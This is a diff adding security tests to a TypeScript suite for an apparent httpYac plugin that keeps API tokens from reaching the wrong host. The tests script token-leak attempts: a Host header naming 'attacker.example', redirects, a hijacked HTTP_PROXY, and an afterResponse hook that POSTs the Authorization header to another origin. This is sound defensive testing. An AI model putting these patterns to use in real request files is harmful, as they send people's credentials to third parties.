@@ -226,6 +226,80 @@ describe('httpYac at the door: a reference in httpYac, the token put in by got (
 		});
 	});
 
+	describe('the review\'s findings', () => {
+		it('a Host header naming another host: asked (a shared front end routes by it), and on Cancel nothing is sent', async () => {
+			for (const text of [`GET ${s}/v1/Me\nHost: attacker.example\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`, `GET ${s}/v1/Me\nHost: attacker.example\nAuthorization: Bearer ${TOKEN}\n`]) {
+				host.asked.length = 0;
+				const got = await send(text);
+				assert.equal(host.asked.length, 1, text);
+				assert.equal(got.service.length + got.other.length, 0);
+			}
+			const got = await send(`GET ${s}/v1/Me\nHost: 127.0.0.1:${service.port}\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
+			assert.equal(got.service.at(-1)?.authorization, `Bearer ${TOKEN}`, 'the URL\'s own host is no reason');
+		});
+
+		it('"Send Anyway" follows no redirect, and what httpYac records holds the reference', async () => {
+			host.answers.push(true);
+			const logged = rig.logged.length;
+			const got = await send(`POST ${s}/redirect\nX-Token: {{TELEMATICS_TOKEN}}\nContent-Type: application/json\n\n{"t": "{{TELEMATICS_TOKEN}}"}\n`);
+			assert.equal(host.asked.length, 1);
+			assert.equal(got.service[0]?.headers['x-token'], TOKEN, 'the service got what the person agreed to');
+			assert.equal(got.other.length, 0, 'the redirect elsewhere was not followed');
+			const records = JSON.stringify([rig.logged.slice(logged), rig.lastFile!.httpRegions.map((r) => r.response)]);
+			assert.ok(!records.includes(TOKEN), 'no record holds the token');
+		});
+
+		it('a token written in the file, sent to its service, goes nowhere else on a redirect', async () => {
+			const got = await send(`GET ${s}/redirect\nX-Api-Token: ${TOKEN}\n`);
+			assert.equal(got.service.length, 1);
+			assert.equal(got.other.length, 0, 'the redirect was stopped');
+			assert.deepEqual(host.asked, []);
+		});
+
+		it('a request imported from other files asks once', async () => {
+			rig.write('one.http', `GET ${s}/one\n`);
+			rig.write('two.http', `GET ${s}/two\n`);
+			host.answers.push(true, true, true);
+			await send(`# @import ./one.http\n# @import ./two.http\nGET ${o}/v1/Me\nX-Token: {{TELEMATICS_TOKEN}}\n`);
+			assert.equal(host.asked.length, 1);
+		});
+
+		it('a script\'s own afterResponse hook sees the reference: ours puts it back first', async () => {
+			const got = await send([
+				'{{@request',
+				'  request.options.hooks = request.options.hooks || {};',
+				`  request.options.hooks.afterResponse = [async (response) => { await new Promise((resolve) => { const req = require('http').request('${o}/hook', { method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); }); req.on('error', resolve); req.end(String(response.request.options.headers.authorization)); }); return response; }];`,
+				'}}',
+				'',
+				'###',
+				`GET ${s}/v1/Me`,
+				'Authorization: Bearer {{TELEMATICS_TOKEN}}',
+				'',
+			].join('\n'));
+			assert.equal(got.service.at(-1)?.authorization, `Bearer ${TOKEN}`);
+			assert.equal(got.other.length, 1, got.errors.join('\n'));
+			noTokenAt(got.other);
+		});
+
+		it('a function in a read got option (retry.calculateDelay) makes the option unread: asked', async () => {
+			const got = await send(`{{@request\n  request.options.retry = { limit: 1, calculateDelay: () => 0 };\n}}\n\n###\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
+			assert.equal(host.asked.length, 1);
+			assert.match(host.asked[0]!, /options\.retry/);
+			assert.equal(got.service.length, 0);
+		});
+
+		it('a script setting HTTP_PROXY does not make its proxy the person\'s: asked', async () => {
+			const saved = { HTTP_PROXY: process.env.HTTP_PROXY, httpProxy: process.env.httpProxy };
+			try {
+				const got = await send(`{{\n  process.env.HTTP_PROXY = '${o}';\n  process.env.httpProxy = '${o}';\n}}\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
+				assert.equal(host.asked.length, 1, got.errors.join('\n'));
+				assert.equal(got.other.length + got.service.length, 0);
+			} finally {
+				for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k]; else process.env[k] = v;
+			}
+		});
+	});
+
 	it('an account with no live token at the door: nothing is sent, and httpYac says why', async () => {
 		const h = rigHost([{ id: 'u', name: 'user', label: 'User', variable: 'TELEMATICS_TOKEN_USER', active: true, tokens: [TOKEN], platformOrigins: [s] }], { u: TOKEN });
 		rig.plugin(h);
@@ -268,7 +342,8 @@ describe('the door\'s parts', () => {
 	it('never swaps for another protocol than HTTP, a second Authorization, or a reference also elsewhere', () => {
 		const ref = mintReference('user');
 		const auth: [string, string] = ['Authorization', `Bearer ${ref}`];
-		assert.equal(decideDoor(request({ headers: [auth] }), [account(ref)], undefined, false).swap, undefined);
+		const sse = decideDoor(request({ headers: [auth] }), [account(ref)], undefined, false);
+		assert.deepEqual([sse.swap, sse.asked, sse.unseen.map((a) => a.id)], [undefined, [], ['u']], 'WebSocket, SSE…: the reference goes, unasked, said once');
 		assert.equal(decideDoor(request({ headers: [auth, ['authorization', 'Bearer x']] }), [account(ref)], undefined, true).swap, undefined);
 		assert.equal(decideDoor(request({ headers: [auth], body: ref }), [account(ref)], undefined, true).swap, undefined);
 		assert.equal(decideDoor(request({ headers: [auth], url: `https://api.example/?r=${ref}` }), [account(ref)], undefined, true).swap, undefined);
@@ -277,7 +352,7 @@ describe('the door\'s parts', () => {
 
 	it('got\'s hooks: the token only for the account\'s origins, the reference back in what got hands back', () => {
 		const ref = mintReference('user');
-		const hooks = doorHooks(ref, TOKEN, ['https://api.example']);
+		const hooks = doorHooks(ref, TOKEN, ['https://api.example'], false);
 		const options = { url: new URL('https://api.example/v1/Me'), headers: { authorization: `Bearer ${ref}` } as Record<string, unknown> };
 		hooks.beforeRequest(options);
 		assert.equal(options.headers.authorization, `Bearer ${TOKEN}`);
